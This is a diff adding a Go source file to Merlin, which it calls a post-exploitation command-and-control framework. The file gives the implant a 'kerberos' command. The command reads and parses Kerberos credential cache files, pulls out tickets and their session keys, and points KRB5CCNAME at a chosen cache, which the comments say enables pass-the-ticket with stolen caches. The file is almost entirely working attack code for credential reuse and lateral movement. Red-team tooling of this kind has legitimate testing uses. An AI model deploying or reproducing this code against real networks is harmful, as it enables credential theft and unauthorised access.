@@ -0,0 +1,342 @@
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package commands
+
+import (
+	// Standard
+	"bytes"
+	"encoding/binary"
+	"errors"
+	"fmt"
+	"io"
+	"os"
+	"strings"
+	"time"
+
+	// Merlin Main
+	"github.com/Ne0nd0g/merlin/pkg/jobs"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/cli"
+)
+
+// krb5Environment are the environment variables MIT and Heimdal Kerberos libraries read to find the credential cache
+// and configuration file, and their values when the agent started so they can be restored
+var krb5Environment = map[string]*string{"KRB5CCNAME": nil, "KRB5_CONFIG": nil}
+
+func init() {
+	for name := range krb5Environment {
+		if value, ok := os.LookupEnv(name); ok {
+			v := value
+			krb5Environment[name] = &v
+		}
+	}
+}
+
+// ccache is a parsed Kerberos credential cache file
+type ccache struct {
+	principal string
+	tickets   []TicketRecord
+	tgt       *krbCredential // The unexpired TGT for the principal's realm, if any
+}
+
+// Kerberos selects the Kerberos credential cache, and configuration, that tools spawned by the agent and the agent's
+// own network modules authenticate with, enabling pass-the-ticket from Unix hosts with a stolen or converted ccache
+// kerberos list [ccache]
+// kerberos use <ccache>
+// kerberos config <krb5.conf>
+// kerberos clear
+func Kerberos(cmd jobs.Command) (results jobs.Results, structured Structured) {
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, fmt.Sprintf("entering Kerberos() with %+v", cmd))
+	}
+	if len(cmd.Args) < 1 {
+		results.Stderr = "not enough arguments provided to the kerberos command"
+		return
+	}
+
+	switch strings.ToLower(cmd.Args[0]) {
+	case "list":
+		name := defaultCCache()
+		if len(cmd.Args) > 1 {
+			name = cmd.Args[1]
+		}
+		cache, err := readCCache(name)
+		if err != nil {
+			results.Stderr = err.Error()
+			return
+		}
+		results.Stdout = cache.String(name)
+		structured = newStructured("kerberos", cache.tickets)
+	case "use":
+		if len(cmd.Args) < 2 {
+			results.Stderr = "not enough arguments provided to the kerberos use command"
+			return
+		}
+		name := cmd.Args[1]
+		// Only file caches can be read; keyring, KCM, and other cache types are passed to the Kerberos library as is
+		if ccacheFile(name) != "" {
+			cache, err := readCCache(name)
+			if err != nil {
+				results.Stderr = err.Error()
+				return
+			}
+			results.Stdout = cache.String(name) + "\n"
+			structured = newStructured("kerberos", cache.tickets)
+		}
+		if err := os.Setenv("KRB5CCNAME", name); err != nil {
+			results.Stderr = fmt.Sprintf("there was an error setting the KRB5CCNAME environment variable: %s", err)
+			return
+		}
+		results.Stdout += fmt.Sprintf("Set KRB5CCNAME to %s", name)
+	case "config":
+		if len(cmd.Args) < 2 {
+			results.Stderr = "not enough arguments provided to the kerberos config command"
+			return
+		}
+		if _, err := os.Stat(cmd.Args[1]); err != nil {
+			results.Stderr = fmt.Sprintf("there was an error reading the Kerberos configuration file: %s", err)
+			return
+		}
+		if err := os.Setenv("KRB5_CONFIG", cmd.Args[1]); err != nil {
+			results.Stderr = fmt.Sprintf("there was an error setting the KRB5_CONFIG environment variable: %s", err)
+			return
+		}
+		results.Stdout = fmt.Sprintf("Set KRB5_CONFIG to %s", cmd.Args[1])
+	case "clear":
+		for _, name := range []string{"KRB5CCNAME", "KRB5_CONFIG"} {
+			if value := krb5Environment[name]; value != nil {
+				_ = os.Setenv(name, *value)
+				results.Stdout += fmt.Sprintf("Restored %s to %s\n", name, *value)
+			} else {
+				_ = os.Unsetenv(name)
+				results.Stdout += fmt.Sprintf("Cleared %s\n", name)
+			}
+		}
+	default:
+		results.Stderr = fmt.Sprintf("unknown kerberos command: %s", cmd.Args[0])
+	}
+	return
+}
+
+// defaultCCache returns the credential cache Kerberos libraries use when KRB5CCNAME is not set
+func defaultCCache() string {
+	if name := os.Getenv("KRB5CCNAME"); name != "" {
+		return name
+	}
+	return fmt.Sprintf("FILE:/tmp/krb5cc_%d", os.Getuid())
+}
+
+// ccacheFile returns the file path of a FILE type, or untyped, credential cache name and an empty string for other types
+func ccacheFile(name string) string {
+	if strings.HasPrefix(name, "FILE:") {
+		return strings.TrimPrefix(name, "FILE:")
+	}
+	// Windows paths have a drive letter before the first colon
+	if i := strings.Index(name, ":"); i > 1 {
+		return ""
+	}
+	return name
+}
+
+// ccachePrincipal returns the default principal of the credential cache in KRB5CCNAME, if it is set and can be read
+func ccachePrincipal() (principal string, name string) {
+	name = os.Getenv("KRB5CCNAME")
+	if name == "" {
+		return
+	}
+	if cache, err := readCCache(name); err == nil {
+		principal = cache.principal
+	}
+	return
+}
+
+// String returns the credential cache's principal and tickets as a table
+func (c ccache) String(name string) string {
+	out := fmt.Sprintf("Credential Cache: %s\nDefault Principal: %s\n", name, c.principal)
+	for _, t := range c.tickets {
+		state := ""
+		if t.Expired {
+			state = " (expired)"
+		}
+		out += fmt.Sprintf("\n%s\n\tClient: %s\n\tValid: %s to %s%s\n\tEncryption Type: %d, Flags: %s",
+			t.Server, t.Client, t.Start.Format(time.RFC3339), t.End.Format(time.RFC3339), state, t.EncType, t.Flags)
+		if !t.Renew.IsZero() {
+			out += fmt.Sprintf(", Renew Until: %s", t.Renew.Format(time.RFC3339))
+		}
+	}
+	return out
+}
+
+// readCCache parses a version 3 or 4 MIT file credential cache
+// https://web.mit.edu/kerberos/krb5-devel/doc/formats/ccache_file_format.html
+func readCCache(name string) (cache ccache, err error) {
+	path := ccacheFile(name)
+	if path == "" {
+		return cache, fmt.Errorf("%s is not a file credential cache", name)
+	}
+	data, err := os.ReadFile(path) // #nosec G304 -- the operator provides the path
+	if err != nil {
+		return cache, fmt.Errorf("there was an error reading the credential cache %s: %s", path, err)
+	}
+	r := bytes.NewReader(data)
+
+	var version uint16
+	if err = binary.Read(r, binary.BigEndian, &version); err != nil {
+		return cache, fmt.Errorf("there was an error reading the credential cache version: %s", err)
+	}
+	switch version {
+	case 0x0504:
+		var length uint16
+		if err = binary.Read(r, binary.BigEndian, &length); err != nil {
+			return cache, fmt.Errorf("there was an error reading the credential cache header: %s", err)
+		}
+		if _, err = r.Seek(int64(length), io.SeekCurrent); err != nil {
+			return cache, fmt.Errorf("there was an error reading the credential cache header: %s", err)
+		}
+	case 0x0503:
+	default:
+		return cache, fmt.Errorf("%s is not a version 3 or 4 credential cache (0x%04x)", path, version)
+	}
+
+	if cache.principal, err = readPrincipal(r); err != nil {
+		return cache, fmt.Errorf("there was an error reading the default principal: %s", err)
+	}
+	for r.Len() > 0 {
+		ticket, cred, err := readCredential(r)
+		if err != nil {
+			return cache, fmt.Errorf("there was an error reading credential %d: %s", len(cache.tickets)+1, err)
+		}
+		// Configuration entries, such as the KDC's preferred encryption types, are stored as krb5_ccache_conf_data
+		if strings.HasPrefix(ticket.Server, "krb5_ccache_conf_data") {
+			continue
+		}
+		ticket.Cache = name
+		cache.tickets = append(cache.tickets, ticket)
+		if strings.HasPrefix(ticket.Server, "krbtgt/"+cred.realm+"@") && !ticket.Expired {
+			c := cred
+			cache.tgt = &c
+		}
+	}
+	return cache, nil
+}
+
+// readPrincipal reads a principal as name/components@REALM
+func readPrincipal(r *bytes.Reader) (string, error) {
+	var header struct {
+		NameType   uint32
+		Components uint32
+	}
+	if err := binary.Read(r, binary.BigEndian, &header); err != nil {
+		return "", err
+	}
+	if header.Components > 32 {
+		return "", fmt.Errorf("the principal has %d components", header.Components)
+	}
+	realm, err := readCounted(r)
+	if err != nil {
+		return "", err
+	}
+	var components []string
+	for i := uint32(0); i < header.Components; i++ {
+		component, err := readCounted(r)
+		if err != nil {
+			return "", err
+		}
+		components = append(components, string(component))
+	}
+	return fmt.Sprintf("%s@%s", strings.Join(components, "/"), realm), nil
+}
+
+// readCounted reads a 32-bit length followed by that many bytes
+func readCounted(r *bytes.Reader) ([]byte, error) {
+	var length uint32
+	if err := binary.Read(r, binary.BigEndian, &length); err != nil {
+		return nil, err
+	}
+	if int64(length) > int64(r.Len()) {
+		return nil, errors.New("a length is larger than the remaining data")
+	}
+	data := make([]byte, length)
+	_, err := io.ReadFull(r, data)
+	return data, err
+}
+
+// readCredential reads a credential and returns its description and the ticket with its session key
+func readCredential(r *bytes.Reader) (ticket TicketRecord, cred krbCredential, err error) {
+	if ticket.Client, err = readPrincipal(r); err != nil {
+		return
+	}
+	if ticket.Server, err = readPrincipal(r); err != nil {
+		return
+	}
+	var encType uint16
+	if err = binary.Read(r, binary.BigEndian, &encType); err != nil {
+		return
+	}
+	ticket.EncType = int(encType)
+	cred.key.KeyType = int32(encType)
+	if cred.key.KeyValue, err = readCounted(r); err != nil {
+		return
+	}
+	if at := strings.LastIndex(ticket.Client, "@"); at > 0 {
+		cred.user, cred.realm = ticket.Client[:at], ticket.Client[at+1:]
+	}
+	var times struct {
+		Auth, Start, End, Renew uint32
+		IsSKey                  uint8
+		Flags                   uint32
+	}
+	if err = binary.Read(r, binary.BigEndian, &times); err != nil {
+		return
+	}
+	if times.Start == 0 {
+		times.Start = times.Auth
+	}
+	ticket.Start = time.Unix(int64(times.Start), 0).UTC()
+	ticket.End = time.Unix(int64(times.End), 0).UTC()
+	cred.expires = ticket.End
+	if times.Renew != 0 {
+		ticket.Renew = time.Unix(int64(times.Renew), 0).UTC()
+	}
+	ticket.Expired = time.Now().After(ticket.End)
+	ticket.Flags = fmt.Sprintf("0x%08x", times.Flags)
+
+	// Addresses and authorization data are lists of a 16-bit type and counted data
+	for i := 0; i < 2; i++ {
+		var count uint32
+		if err = binary.Read(r, binary.BigEndian, &count); err != nil {
+			return
+		}
+		for j := uint32(0); j < count; j++ {
+			var kind uint16
+			if err = binary.Read(r, binary.BigEndian, &kind); err != nil {
+				return
+			}
+			if _, err = readCounted(r); err != nil {
+				return
+			}
+		}
+	}
+	if cred.ticket, err = readCounted(r); err != nil {
+		return
+	}
+	// Second ticket
+	_, err = readCounted(r)
+	return
+}